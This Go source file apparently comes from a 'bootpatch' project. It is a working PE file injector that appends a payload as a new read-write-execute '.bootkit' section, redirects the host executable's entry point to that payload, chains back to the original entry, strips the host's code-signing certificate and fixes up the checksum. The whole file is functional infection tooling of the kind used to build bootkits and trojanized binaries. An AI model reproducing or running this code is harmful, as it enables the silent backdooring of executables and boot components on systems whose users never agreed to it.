// Package inject appends a payload image to a host PE file as a new section and
// redirects the host entry point into it.
package inject

import (
	"bytes"
	"debug/pe"
	"encoding/binary"

	"bootpatch"
	"bootpatch/internal/winnt"

	"github.com/pkg/errors"
)

// PayloadAlignment is the section and file alignment the payload must be
// linked with (/ALIGN:0x1000 /FILEALIGN:0x1000). It is also the size of the
// padding page in front of the payload inside the new section.
const PayloadAlignment = 0x1000

const DefaultSectionName = ".bootkit"

var (
	ErrInvalidHost     = errors.New("invalid host image")
	ErrInvalidPayload  = errors.New("invalid payload image")
	ErrAlignment       = errors.New("payload not linked with 0x1000 section and file alignment")
	ErrBase            = errors.New("payload image base does not match its load address")
	ErrNoHeaderRoom    = errors.New("no room for another section header")
	ErrAlreadyInjected = errors.New("host already has the section")
)

type Options struct {
	SectionName    string
	UpdateChecksum bool
	// StripSignature drops the host's certificate table. Appending a section
	// invalidates it anyway.
	StripSignature bool
}

// Result describes the section that was added.
type Result struct {
	Section     winnt.IMAGE_SECTION_HEADER
	PayloadBase uint64
	EntryPoint  uint32
	Checksum    uint32
}

// AppendSection returns a copy of host with payload appended as a new
// executable section. The payload's entry point field is replaced with the
// host's, and the host entry point is moved to the payload's. Neither input is
// modified.
func AppendSection(host, payload []byte, opts Options) ([]byte, *Result, error) {
	if opts.SectionName == "" {
		opts.SectionName = DefaultSectionName
	}
	name, ok := winnt.ShortName(opts.SectionName)
	if !ok {
		return nil, nil, errors.Errorf("section name %q longer than %d bytes", opts.SectionName, winnt.IMAGE_SIZEOF_SHORT_NAME)
	}

	hostH, ok := bootpatch.GetHeaders(host)
	if !ok {
		return nil, nil, ErrInvalidHost
	}
	payloadH, ok := bootpatch.GetHeaders(payload)
	if !ok {
		return nil, nil, ErrInvalidPayload
	}

	popt := payloadH.Optional()
	if popt.SectionAlignment != PayloadAlignment || popt.FileAlignment != PayloadAlignment {
		return nil, nil, errors.Wrapf(ErrAlignment, "section %#x, file %#x", popt.SectionAlignment, popt.FileAlignment)
	}

	hopt := *hostH.Optional()
	if hopt.SectionAlignment == 0 || hopt.FileAlignment == 0 {
		return nil, nil, errors.Wrap(ErrInvalidHost, "zero alignment")
	}
	sections := hostH.Sections(host)
	if len(sections) == 0 || len(sections) != int(hostH.Nt.FileHeader.NumberOfSections) {
		return nil, nil, errors.Wrap(ErrInvalidHost, "truncated section table")
	}
	for _, s := range sections {
		if s.Name == opts.SectionName {
			return nil, nil, errors.Wrapf(ErrAlreadyInjected, "%s", opts.SectionName)
		}
	}

	// room for one more header before the first section's raw data
	tableEnd := uint64(hostH.SectionTableOffset()) + uint64(len(sections)+1)*winnt.IMAGE_SIZEOF_SECTION_HEADER
	limit := uint64(hopt.SizeOfHeaders)
	for _, s := range sections {
		if s.PointerToRawData != 0 && uint64(s.PointerToRawData) < limit {
			limit = uint64(s.PointerToRawData)
		}
	}
	if tableEnd > limit {
		return nil, nil, errors.Wrapf(ErrNoHeaderRoom, "table ends at %#x, headers end at %#x", tableEnd, limit)
	}

	last := sections[len(sections)-1]
	va := last.VirtualAddress + uint32(winnt.AlignValueUp(uint64(last.VirtualSize), uint64(hopt.SectionAlignment)))
	payloadBase := uint64(va) + PayloadAlignment
	if payloadBase != popt.ImageBase {
		return nil, nil, errors.Wrapf(ErrBase, "payload linked at %#x, will load at %#x", popt.ImageBase, payloadBase)
	}

	out := append([]byte(nil), host...)
	if opts.StripSignature {
		out = stripSignature(out, hostH)
	}
	out = pad(out, int(hopt.FileAlignment), 0)

	// the payload chains to the host's original entry point
	body := append([]byte(nil), payload...)
	binary.LittleEndian.PutUint32(body[payloadH.NtOffset+4+winnt.SIZEOF_IMAGE_FILE_HEADER+winnt.OFFSET_AddressOfEntryPoint:], hopt.AddressOfEntryPoint)
	body = pad(body, PayloadAlignment, 0)

	data := append(bytes.Repeat([]byte{0xCC}, PayloadAlignment), body...)
	data = pad(data, int(hopt.FileAlignment), 0)

	sh := winnt.IMAGE_SECTION_HEADER{
		Name:             name,
		VirtualSize:      uint32(winnt.AlignValueUp(uint64(len(data)), uint64(hopt.SectionAlignment))),
		VirtualAddress:   va,
		SizeOfRawData:    uint32(len(data)),
		PointerToRawData: uint32(len(out)),
		Characteristics:  pe.IMAGE_SCN_MEM_READ | pe.IMAGE_SCN_MEM_WRITE | pe.IMAGE_SCN_MEM_EXECUTE | pe.IMAGE_SCN_CNT_CODE,
	}

	h := *hostH
	if opts.StripSignature {
		h.Nt.OptionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_SECURITY] = winnt.IMAGE_DATA_DIRECTORY{}
	}
	h.Nt.OptionalHeader.AddressOfEntryPoint = uint32(payloadBase) + popt.AddressOfEntryPoint
	h.Nt.OptionalHeader.SizeOfImage += sh.VirtualSize
	h.Nt.FileHeader.NumberOfSections++
	h.Encode(out)

	var buf bytes.Buffer
	if err := binary.Write(&buf, binary.LittleEndian, &sh); err != nil {
		return nil, nil, errors.Wrap(err, "encode section header")
	}
	copy(out[tableEnd-winnt.IMAGE_SIZEOF_SECTION_HEADER:], buf.Bytes())

	out = append(out, data...)

	res := &Result{
		Section:     sh,
		PayloadBase: payloadBase,
		EntryPoint:  h.Nt.OptionalHeader.AddressOfEntryPoint,
	}
	if opts.UpdateChecksum {
		off := int(h.NtOffset) + 4 + winnt.SIZEOF_IMAGE_FILE_HEADER + winnt.OFFSET_CheckSum
		res.Checksum = Checksum(out, off)
		binary.LittleEndian.PutUint32(out[off:], res.Checksum)
	}
	return out, res, nil
}

// stripSignature clears the certificate table and cuts it off the end of the
// file when it is the last thing there.
func stripSignature(data []byte, h *bootpatch.Headers) []byte {
	dir := h.Directory(pe.IMAGE_DIRECTORY_ENTRY_SECURITY)
	if dir.VirtualAddress == 0 || dir.Size == 0 {
		return data
	}
	// the security directory holds a file offset, not an RVA
	end := uint64(dir.VirtualAddress) + uint64(dir.Size)
	if winnt.AlignValueUp(end, 8) >= uint64(len(data)) && uint64(dir.VirtualAddress) <= uint64(len(data)) {
		data = data[:dir.VirtualAddress]
	}
	return data
}

func pad(b []byte, alignment int, fill byte) []byte {
	n := int(winnt.AlignValueUp(uint64(len(b)), uint64(alignment)))
	for len(b) < n {
		b = append(b, fill)
	}
	return b
}

// Checksum computes the PE image checksum of data, treating the four bytes at
// checksumOffset as zero.
func Checksum(data []byte, checksumOffset int) uint32 {
	var sum uint64
	for i := 0; i+1 < len(data); i += 2 {
		if i == checksumOffset || i == checksumOffset+2 {
			continue
		}
		sum += uint64(binary.LittleEndian.Uint16(data[i:]))
		sum = (sum & 0xffff) + (sum >> 16)
	}
	if len(data)%2 == 1 {
		sum += uint64(data[len(data)-1])
		sum = (sum & 0xffff) + (sum >> 16)
	}
	sum = (sum & 0xffff) + (sum >> 16)
	return uint32(sum) + uint32(len(data))
}
